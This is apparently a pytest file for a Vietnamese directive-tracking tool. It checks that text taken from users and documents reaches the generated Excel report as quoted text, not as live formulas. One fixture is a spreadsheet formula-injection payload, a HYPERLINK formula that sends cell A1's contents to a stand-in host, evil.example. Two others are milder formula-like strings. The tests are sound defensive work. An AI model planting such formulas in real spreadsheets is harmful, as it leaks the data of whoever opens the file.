"""Text from people and documents reaches the Excel report as text, never as a formula: an
approved extension's reason, a directive's title and a task's text that start like a formula
(=, +) are read back from the written workbook as the same strings, stored as text. The only
formulas are the report's own totals and rates; numbers stay numbers."""

from __future__ import annotations

import re
from pathlib import Path

from openpyxl import load_workbook

from dondoc.context import Context
from dondoc.directives.intake import RegistrationResult
from dondoc.record import clock
from dondoc.record.audit import Actor
from dondoc.registration import plan_from_file, register_directive
from tests.cli_helpers import dondoc
from tests.reports.april import subtask_id

NOW = "2020-05-08T09:00:00+07:00"
REASON = '=HYPERLINK("http://evil.example/x?"&A1,"Xem minh chứng")'
TITLE = "=1+1 Kết luận về phòng, chống dịch"
TASK_TEXT = "+Rà soát danh sách hộ nghèo"
# the report's own formulas: column totals, rates of the totals, the chart's rates
OWN_FORMULA = re.compile(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)|=IF\(.*\)|=B\d+/C\d+")


def _register_crafted(ctx: Context, tmp_path: Path) -> None:
    spec = tmp_path / "crafted.yaml"
    spec.write_text(
        f"""
number: "9-KL/HU"
kind: ket_luan
title: '{TITLE}'
issuer: UBND
issued_on: 2020-04-01
tasks:
  - {{id: ra-soat, text: '{TASK_TEXT}', lead: PVHTT, due: 2020-04-06}}
""",
        encoding="utf-8",
    )
    at = clock.parse_instant("2020-04-01T16:00:00+07:00")
    register_directive(ctx, plan_from_file(ctx, spec), update=False, actor=Actor("VPUB"), now=at)


def _extend(ctx: Context) -> None:
    sub = str(subtask_id(ctx, "tam-dung-su-kien-lam-viec-tai-nha", "UBMTTQ"))
    steps = [
        (
            "2020-04-14T10:00:00+07:00",
            "extend",
            sub,
            "--by",
            "UBMTTQ",
            "--to",
            "24/04/2020",
            "--reason",
            REASON,
        ),
        ("2020-04-14T15:00:00+07:00", "approve-extension", sub, "--by", "VPHU"),
    ]
    for when, *command in steps:
        result = dondoc("--now", when, *command)
        assert result.exit_code == 0, result.output


def test_crafted_text_is_written_as_text(ctx: Context, seeded: RegistrationResult, tmp_path: Path) -> None:
    _register_crafted(ctx, tmp_path)
    _extend(ctx)
    out = tmp_path / "bao-cao.xlsx"
    result = dondoc("--now", NOW, "report", "--month", "2020-04", "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas and all(OWN_FORMULA.fullmatch(str(f)) for f in formulas), formulas
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {REASON, TITLE, TASK_TEXT} <= texts
    crafted = [c for c in cells if c.value in (REASON, TITLE, TASK_TEXT)]
    assert all(c.quotePrefix for c in crafted)
    counts = book["Theo cơ quan"]
    assert any(isinstance(c.value, int) and c.data_type == "n" for row in counts.iter_rows() for c in row)
